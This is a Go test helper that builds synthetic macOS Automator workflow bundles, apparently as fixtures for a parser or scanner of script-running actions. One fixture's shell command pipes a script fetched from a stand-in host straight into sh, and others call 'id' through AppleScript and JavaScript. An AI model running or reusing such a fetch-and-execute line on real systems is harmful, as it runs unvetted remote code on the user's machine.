package workflow

import (
	"encoding/xml"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// testAction is one action of a document built by buildDocument.
type testAction struct {
	bundleID string
	name     string
	params   [][2]string // ActionParameters, all strings, in order
	old      bool        // write AMBundleIdentifier / AMName / AMParameters (old documents)
}

// esc escapes s for XML character data.
func esc(s string) string {
	var b strings.Builder
	if err := xml.EscapeText(&b, []byte(s)); err != nil {
		panic(err)
	}
	return b.String()
}

// buildDocument writes a document.wflow the way Automator lays it out
// (AMDocumentVersion 2: actions → action → BundleIdentifier, ActionName,
// ActionParameters), with the surrounding keys Automator writes so that
// the parser meets them.
func buildDocument(actions ...testAction) []byte {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	<key>AMApplicationBuild</key>
	<string>523</string>
	<key>AMApplicationVersion</key>
	<string>2.10</string>
	<key>AMDocumentVersion</key>
	<string>2</string>
	<key>actions</key>
	<array>
`)
	for i, a := range actions {
		idKey, nameKey, paramKey := "BundleIdentifier", "ActionName", "ActionParameters"
		if a.old {
			idKey, nameKey, paramKey = "AMBundleIdentifier", "AMName", "AMParameters"
		}
		fmt.Fprintf(&b, `		<dict>
			<key>action</key>
			<dict>
				<key>AMAccepts</key>
				<dict>
					<key>Container</key>
					<string>List</string>
					<key>Optional</key>
					<true/>
					<key>Types</key>
					<array>
						<string>com.apple.cocoa.string</string>
					</array>
				</dict>
				<key>AMActionVersion</key>
				<string>2.0.3</string>
				<key>%s</key>
				<string>%s</string>
				<key>%s</key>
				<dict>
`, nameKey, esc(a.name), paramKey)
		for _, kv := range a.params {
			fmt.Fprintf(&b, "\t\t\t\t\t<key>%s</key>\n\t\t\t\t\t<string>%s</string>\n", esc(kv[0]), esc(kv[1]))
		}
		fmt.Fprintf(&b, `					<key>inputMethod</key>
					<integer>1</integer>
				</dict>
				<key>%s</key>
				<string>%s</string>
				<key>CFBundleVersion</key>
				<string>2.0.3</string>
				<key>UUID</key>
				<string>A1000000-0000-0000-0000-%012d</string>
			</dict>
			<key>isViewVisible</key>
			<integer>1</integer>
		</dict>
`, idKey, esc(a.bundleID), i)
	}
	b.WriteString(`	</array>
	<key>connectors</key>
	<dict/>
	<key>workflowMetaData</key>
	<dict>
		<key>workflowTypeIdentifier</key>
		<string>com.apple.Automator.workflow</string>
	</dict>
</dict>
</plist>
`)
	return []byte(b.String())
}

// The actions of the fixtures.
var (
	shellAction = testAction{bundleID: "com.apple.RunShellScript", name: "Run Shell Script",
		params: [][2]string{{"COMMAND_STRING", `curl -fsSL https://example.invalid/p.sh | sh && echo "<done>"`}, {"shell", "/bin/zsh"}, {"source", ""}}}
	appleScriptAction = testAction{bundleID: "com.apple.Automator.RunScript", name: "Run AppleScript",
		params: [][2]string{{"source", "on run {input, parameters}\n\tdo shell script \"id\" & \" -a\"\n\treturn input\nend run"}}}
	jxaAction = testAction{bundleID: "com.apple.Automator.RunJavaScript", name: "Run JavaScript",
		params: [][2]string{{"source", "function run(input, parameters) {\n\tvar app = Application.currentApplication();\n\tapp.includeStandardAdditions = true;\n\tapp.doShellScript('id');\n\treturn input;\n}"}}}
	copyAction = testAction{bundleID: "com.apple.Automator.CopyFiles", name: "Copy Finder Items",
		params: [][2]string{{"replaceExisting", "0"}}}
)

// writeBundle creates dir/name.workflow/Contents/document.wflow holding doc
// and returns the bundle path.
func writeBundle(t testing.TB, dir, name string, doc []byte) string {
	t.Helper()
	b := filepath.Join(dir, name+".workflow")
	if err := os.MkdirAll(filepath.Join(b, "Contents"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(b, "Contents", documentName), doc, 0o644); err != nil {
		t.Fatal(err)
	}
	return b
}
